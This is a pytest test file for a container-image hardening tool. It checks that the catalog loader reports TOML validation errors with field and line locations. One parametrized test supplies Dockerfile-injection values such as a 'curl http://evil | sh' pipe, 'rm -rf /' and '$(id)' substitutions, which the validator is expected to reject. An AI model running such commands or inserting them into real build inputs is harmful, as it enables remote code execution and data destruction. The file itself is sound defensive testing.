from __future__ import annotations

from collections.abc import Callable
from pathlib import Path

import pytest

from hardening.catalog import load_catalog
from hardening.errors import ConfigError, ExitCode
from tests.conftest import DEFAULT_IMAGE, REPO_ROOT


def test_valid_catalog_gives_image_specs(make_repo: Callable[..., Path]) -> None:
    catalog = load_catalog(make_repo())
    (image,) = catalog.images
    assert image.name == "demo"
    assert image.base.ref == "hardening/debian:bookworm"
    assert image.dockerfile == Path("dockerfiles/demo/Dockerfile")
    assert image.release_refs == ("hardening/demo:1",)
    assert image.variables["uid"] == 10001


def test_repository_catalog_is_valid() -> None:
    catalog = load_catalog(REPO_ROOT / "hardening.toml")
    assert {image.name for image in catalog.images} == {
        "python-secure",
        "python-secure-3.13",
        "postgres-secure",
        "postgres-secure-17",
    }


def _error(make_repo: Callable[..., Path], images: str, **kw: str) -> ConfigError:
    with pytest.raises(ConfigError) as info:
        load_catalog(make_repo(images, **kw))
    assert info.value.exit_code == ExitCode.BAD_INPUT
    return info.value


def test_unknown_key_names_key_and_line(make_repo: Callable[..., Path]) -> None:
    err = _error(make_repo, DEFAULT_IMAGE.replace('tags = ["1"]', 'tags = ["1"]\ncolour = "red"'))
    assert err.location is not None
    assert err.location.field == "image[0].colour"
    assert "unknown key" in err.message
    text = Path(err.location.path).read_text().splitlines()
    assert err.location.line is not None
    assert text[err.location.line - 1].startswith("colour")


def test_wrong_type_names_field(make_repo: Callable[..., Path]) -> None:
    err = _error(make_repo, DEFAULT_IMAGE.replace('tags = ["1"]', 'tags = "1"'))
    assert err.location is not None and err.location.field == "image[0].tags"
    assert err.location.line == 10


def test_missing_required_key(make_repo: Callable[..., Path]) -> None:
    err = _error(make_repo, DEFAULT_IMAGE.replace('repository = "hardening/demo"\n', ""))
    assert err.location is not None and err.location.field == "image[0].repository"
    assert "missing" in err.message


def test_missing_template(make_repo: Callable[..., Path]) -> None:
    err = _error(make_repo, DEFAULT_IMAGE.replace("demo/Dockerfile.j2", "nope/Dockerfile.j2"))
    assert "does not exist" in err.message
    assert err.location is not None and err.location.field == "image[0].template"
    assert err.location.line == 8


def test_duplicate_image_name(make_repo: Callable[..., Path]) -> None:
    err = _error(make_repo, DEFAULT_IMAGE + "\n" + DEFAULT_IMAGE)
    assert "duplicate image name 'demo'" in err.message
    assert err.location is not None and err.location.field == "image[1].name"
    assert err.location.line == 18


def test_second_image_variables_line(make_repo: Callable[..., Path]) -> None:
    second = DEFAULT_IMAGE.replace('name = "demo"', 'name = "other"').replace('"hello"', '"a;b"')
    err = _error(make_repo, DEFAULT_IMAGE + "\n" + second)
    assert err.location is not None and err.location.field == "image[1].variables.greeting"
    lines = Path(err.location.path).read_text().splitlines()
    assert err.location.line is not None
    assert lines[err.location.line - 1] == 'greeting = "a;b"'


@pytest.mark.parametrize(
    ("value", "reason"),
    [
        ('"1.0\\nRUN curl http://evil | sh"', "newline"),
        ('"1.0\\rRUN id"', "carriage return"),
        ('"1.0 \\\\"', "backslash"),
        ('"1.0 && rm -rf /"', "'&'"),
        ('"1.0; id"', "';'"),
        ('"$(id)"', "'$'"),
        ('"`id`"', "'`'"),
        ('"a b"', "' '"),
        ('"x\\"y"', "'\"'"),
        ('""', "empty"),
        ('["ok", "bad\\nRUN id"]', "newline"),
    ],
)
def test_injection_values_are_rejected(make_repo: Callable[..., Path], value: str, reason: str) -> None:
    err = _error(make_repo, DEFAULT_IMAGE.replace('"hello"', value))
    assert reason in err.message
    assert "image demo: variable greeting" in err.message
    assert err.location is not None and err.location.line == 14


def test_base_image_cannot_be_overridden(make_repo: Callable[..., Path]) -> None:
    err = _error(make_repo, DEFAULT_IMAGE + 'base_image = "evil"\n')
    assert "base_image" in err.message


def test_unknown_base(make_repo: Callable[..., Path]) -> None:
    err = _error(make_repo, DEFAULT_IMAGE.replace('tags = ["1"]', 'tags = ["1"]\nbase = "trixie"'))
    assert "not defined" in err.message


def test_invalid_toml_names_line(make_repo: Callable[..., Path]) -> None:
    err = _error(make_repo, DEFAULT_IMAGE.replace('tags = ["1"]', 'tags = ["1"'))
    assert "not valid TOML" in err.message
    assert err.location is not None and err.location.line is not None


def test_bad_repository_and_tag(make_repo: Callable[..., Path]) -> None:
    err = _error(make_repo, DEFAULT_IMAGE.replace("hardening/demo", "Hardening/Demo"))
    assert err.location is not None and err.location.field == "image[0].repository"
    err = _error(make_repo, DEFAULT_IMAGE.replace('["1"]', '["a b"]'))
    assert err.location is not None and err.location.field == "image[0].tags[0]"


def test_missing_catalog(tmp_path: Path) -> None:
    with pytest.raises(ConfigError, match="catalog not found"):
        load_catalog(tmp_path / "hardening.toml")


def test_select_unknown_image(make_repo: Callable[..., Path]) -> None:
    catalog = load_catalog(make_repo())
    with pytest.raises(ConfigError, match="no image named nope"):
        catalog.select(["nope"])


def test_unknown_base_is_a_config_error_like_an_unknown_image(make_repo: Callable[..., Path]) -> None:
    catalog = load_catalog(make_repo())
    assert catalog.select_bases(()) == tuple(catalog.bases.values())
    for select, noun in ((catalog.select_bases, "base"), (catalog.select, "image")):
        with pytest.raises(ConfigError, match=f"no {noun} named nope in the catalog") as caught:
            select(["nope"])
        assert caught.value.exit_code == 2
        assert caught.value.location is not None and caught.value.location.path == catalog.path


def test_the_schema_reads_the_variable_values_the_catalog_holds() -> None:
    from hardening import catalog, catalog_schema

    assert catalog_schema.VarValue == catalog.VarValue


def test_the_default_output_dir_is_the_schemas() -> None:
    """Commands about images outside any catalog write where a catalog's default would."""
    from hardening import catalog, catalog_schema

    assert catalog_schema.ProjectModel().output_dir == catalog.DEFAULT_OUTPUT_DIR
